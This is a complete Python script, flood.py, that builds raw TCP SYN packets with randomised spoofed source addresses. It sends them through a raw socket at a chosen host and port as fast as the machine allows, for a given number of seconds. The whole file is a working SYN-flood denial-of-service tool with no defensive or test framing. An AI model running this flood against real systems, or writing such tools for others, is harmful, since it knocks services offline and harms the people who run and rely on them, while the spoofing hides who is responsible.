#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Send SYNs from made-up sources as fast as this machine can.

flood.py DEVICE GATEWAY-MAC DESTINATION PORT SECONDS
"""
import os
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(mac, source, destination, port):
    src = bytes([10]) + source
    dst = socket.inet_aton(destination)
    tcp = struct.pack(">HHIIBBHHH", 1024 + source[0] * 200 + source[1] % 200,
                      port, source[2] << 24, 0, 5 << 4, 2, 65535, 0, 0)
    pseudo = src + dst + struct.pack(">BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + src + dst
    ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
    return bytes.fromhex(mac.replace(":", "")) + bytes([2, 0, 0, 0, 0, 9]) + \
        b"\x08\x00" + ip + tcp


def main():
    device, mac, destination, port, seconds = sys.argv[1:]
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((device, 0))
    frames = [frame(mac, os.urandom(3), destination, int(port))
              for _ in range(20000)]
    print("flooding", flush=True)
    end = time.monotonic() + float(seconds)
    sent = 0
    while time.monotonic() < end:
        for f in frames:
            try:
                out.send(f)
                sent += 1
            except OSError:
                pass  # the queue is full: that is as fast as it goes
    print(f"sent {sent}", flush=True)


main()
